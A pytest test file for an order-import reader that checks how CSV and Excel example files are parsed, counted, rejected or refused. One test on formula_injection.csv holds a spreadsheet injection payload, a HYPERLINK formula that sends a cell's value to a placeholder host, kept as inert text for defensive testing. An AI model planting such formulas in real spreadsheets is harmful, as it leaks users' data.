"""What is in the example files, to the count and to the cell."""

from datetime import date

import pytest

from imports.reading.lines import Line, Rejection
from imports.reading.refusals import FileRefused
from imports.reading.repeats import read_checked
from tests.imports.reading.building import FILES, outcome

TAKEN = {  # lines, rejections; articles are not looked up
    "amount_formats.csv": (1, 5),
    "base_orders.csv": (5, 0),
    "base_orders.xlsx": (5, 0),
    "base_orders_renamed_copy.csv": (5, 0),
    "base_orders_resaved.xlsx": (5, 0),
    "cr_only.csv": (5, 0),
    "crlf.csv": (5, 0),
    "dates.xlsx": (3, 3),
    "empty_trailing_rows.csv": (5, 0),
    "formula_injection.csv": (5, 0),
    "formulas.xlsx": (1, 3),
    "gbk_chinese_headers.csv": (3, 0),
    "header_variants.csv": (2, 0),
    "incremental_day1.csv": (6, 0),
    "incremental_day2_overlap.csv": (5, 0),
    "leading_zeros.csv": (3, 0),
    "leading_zeros.xlsx": (1, 1),
    "long_numbers_as_numbers.xlsx": (2, 2),
    "merged_order_no.xlsx": (1, 3),
    "mixed_corrected.csv": (6, 0),
    "mixed_valid_invalid.csv": (4, 2),
    "no_final_newline.csv": (5, 0),
    "numbers_as_floats.xlsx": (2, 0),
    "quantities_odd.csv": (2, 9),
    "quotes_newlines.csv": (3, 0),
    "ragged_rows.csv": (2, 2),
    "same_order_no_different_amount.csv": (1, 2),
    "scientific_notation.csv": (1, 2),
    "stray_cell_last_row.xlsx": (5, 0),
    "update_mode.csv": (3, 0),
    "utf8_bom.csv": (5, 0),
    "utf8_chinese_headers.csv": (3, 0),
}

REFUSED = {
    "csv_named.xlsx": ("wrong_type", "The name ends in .xlsx, but the content is a text file."),
    "duplicate_header.csv": ("duplicate_column", "The file has the column quantity twice."),
    "header_only.csv": ("no_rows", "The file has headings but no data rows."),
    "html_table_named.xls": ("wrong_type", "This is a web page or XML document."),
    "merged_header.xlsx": ("header_not_in_row_1", "The headings are in line 2."),
    "missing_required_column.csv": ("missing_column", "The file has no column sku."),
    "xlsx_named.csv": ("wrong_type", "The name ends in .csv, but the content is a workbook."),
    "zero_bytes.csv": ("empty_file", "The file is empty."),
}


def items(name):
    return list(read_checked(FILES / name, filename=name))


def lines(name):
    return [item for item in items(name) if isinstance(item, Line)]


def outcomes(name):
    return [outcome(item) for item in items(name)]


def test_each_example_is_expected_here():
    names = {path.name for path in FILES.iterdir()}
    assert names == {*TAKEN, *REFUSED, "duplicate_rows_exact.csv"}


@pytest.mark.parametrize("name", TAKEN)
def test_counts(name):
    found = items(name)

    rejected = [item for item in found if isinstance(item, Rejection)]
    assert (len(found) - len(rejected), len(rejected)) == TAKEN[name]
    assert all(isinstance(item, Line | Rejection) for item in found)
    assert [item.number for item in found] == sorted({item.number for item in found})


@pytest.mark.parametrize("name", REFUSED)
def test_refusals(name):
    with pytest.raises(FileRefused) as refusal:
        read_checked(FILES / name, filename=name)

    code, text = REFUSED[name]
    assert refusal.value.code == code
    assert str(refusal.value.reason).startswith(text)


def test_a_line_has_all_that_its_cells_say():
    assert items("base_orders.csv")[3] == Line(
        number=5,
        order_no="SO-2024-0004",
        customer_phone="13800000001",
        sku="TEA-100",
        quantity=1,
        unit_price_minor=1990,
        order_date=date(2024, 11, 2),
        remark="second order, same phone",
    )


@pytest.mark.parametrize(
    "name",
    [
        "base_orders.xlsx",
        "base_orders_resaved.xlsx",
        "cr_only.csv",
        "crlf.csv",
        "empty_trailing_rows.csv",
        "no_final_newline.csv",
        "stray_cell_last_row.xlsx",
        "utf8_bom.csv",
    ],
)
def test_the_same_orders_in_another_form_are_the_same(name):
    assert items(name) == items("base_orders.csv")


def test_chinese_is_the_same_in_either_encoding():
    assert lines("gbk_chinese_headers.csv") == lines("utf8_chinese_headers.csv")
    assert [line.remark for line in lines("gbk_chinese_headers.csv")] == [
        "加急，请电话联系",
        "镕堃玥",
        "周末送货",
    ]


def test_numbers_are_identifiers_without_a_fraction():
    first, second = lines("numbers_as_floats.xlsx")

    assert (first.order_no, first.customer_phone, first.quantity) == ("1001", "13800000001", 2)
    assert first.unit_price_minor == 1990
    assert (second.order_no, second.customer_phone, second.quantity) == ("1002", "13800000002", 1)
    assert second.unit_price_minor == 3500


def test_numbers_that_lost_digits_are_no_identifiers():
    assert outcomes("long_numbers_as_numbers.xlsx") == [
        (2, "order_no", "lost_digits"),
        (3, "order_no", "lost_digits"),
        (4, "20241101001"),
        (5, "202411010000123456"),
    ]
    assert outcomes("scientific_notation.csv") == [
        (2, "order_no", "lost_digits"),
        (3, "order_no", "lost_digits"),
        (4, "202411010000000017"),
    ]


def test_leading_zeros_belong_to_the_number():
    assert outcomes("leading_zeros.csv") == [(2, "000123"), (3, "123"), (4, "0000000")]
    assert outcomes("leading_zeros.xlsx") == [(2, "000123"), (3, "order_no", "shown_differently")]


def test_days():
    assert outcomes("dates.xlsx") == [
        (2, "SO-2024-1101"),
        (3, "SO-2024-1102"),
        (4, "order_date", "invalid_date"),
        (5, "order_date", "invalid_date"),
        (6, "order_date", "invalid_date"),
        (7, "SO-2024-1106"),
    ]
    assert {line.order_date for line in lines("dates.xlsx")} == {date(2024, 11, 1)}


def test_formulas_have_the_value_that_was_worked_out():
    assert outcomes("formulas.xlsx") == [
        (2, "SO-2024-1201"),
        (3, "quantity", "formula_without_value"),
        (4, "quantity", "error_value"),
        (5, "unit_price", "error_value"),
    ]
    (line,) = lines("formulas.xlsx")
    assert (line.quantity, line.unit_price_minor) == (2, 1990)


def test_prices():
    assert outcomes("amount_formats.csv") == [
        (2, "unit_price", "decimal_comma"),
        (3, "SO-2024-1002"),
        (4, "unit_price", "decimal_comma"),
        (5, "unit_price", "invalid_price"),
        (6, "unit_price", "invalid_price"),
        (7, "unit_price", "invalid_price"),
    ]
    assert [line.unit_price_minor for line in lines("amount_formats.csv")] == [123450]


def test_quantities():
    assert outcomes("quantities_odd.csv") == [
        (2, "quantity", "invalid_quantity"),
        (3, "quantity", "invalid_quantity"),
        (4, "quantity", "invalid_quantity"),
        (5, "quantity", "invalid_quantity"),
        (6, "quantity", "invalid_quantity"),
        (7, "quantity", "invalid_quantity"),
        (8, "SO-2024-0307"),
        (9, "quantity", "missing_value"),
        (10, "quantity", "invalid_quantity"),
        (11, "SO-2024-0310"),
        (12, "quantity", "invalid_quantity"),
    ]
    assert [line.quantity for line in lines("quantities_odd.csv")] == [2, 2]


def test_line_numbers_are_those_of_the_file_also_after_line_breaks():
    assert outcomes("quotes_newlines.csv") == [(2, "SO-2024-0201"), (5, "SO-2024-0202"), (6, "SO-2024-0203")]
    assert [line.remark for line in lines("quotes_newlines.csv")] == [
        'leave at door,\nring "twice"\r\nthanks',
        'he said ""ok""',
        ",,,",
    ]


def test_ragged_lines():
    assert outcomes("ragged_rows.csv") == [
        (2, "SO-2024-0001"),
        (3, "SO-2024-0602"),
        (4, "", "cell_without_heading"),
        (5, "sku", "missing_value"),
    ]


def test_what_looks_like_a_formula_is_a_text_as_it_is_typed():
    assert [line.remark for line in lines("formula_injection.csv")] == [
        '=HYPERLINK("http://example.invalid/?x="&A2,"open me")',
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
    ]


def test_a_merged_number_is_no_number_of_any_of_its_lines():
    assert outcomes("merged_order_no.xlsx") == [
        (2, "order_no", "merged_cells"),
        (3, "order_no", "merged_cells"),
        (4, "order_no", "merged_cells"),
        (5, "SO-2024-1302"),
    ]


def test_contradictions_name_each_other():
    found = items("same_order_no_different_amount.csv")

    assert [outcome(item) for item in found] == [
        (2, "order_no", "contradicting"),
        (3, "order_no", "contradicting"),
        (4, "SO-2024-0002"),
    ]
    assert "in line 3." in found[0].reason
    assert "in line 2." in found[1].reason
    assert {item.order_no for item in found[:2]} == {"SO-2024-0001"}


def test_equal_lines_count_once():
    assert outcomes("duplicate_rows_exact.csv") == [
        (2, "SO-2024-0001"),
        (3, "SO-2024-0002"),
        (4, "repeats", 2),
        (5, "repeats", 2),
        (6, "SO-2024-0003"),
    ]


def test_bad_lines_do_not_stop_the_good_ones():
    assert outcomes("mixed_valid_invalid.csv") == [
        (2, "SO-2024-0001"),
        (3, "SO-2024-0002"),
        (4, "SO-2024-0003"),
        (5, "customer_phone", "invalid_phone"),
        (6, "SO-2024-0705"),
        (7, "order_no", "missing_value"),
    ]
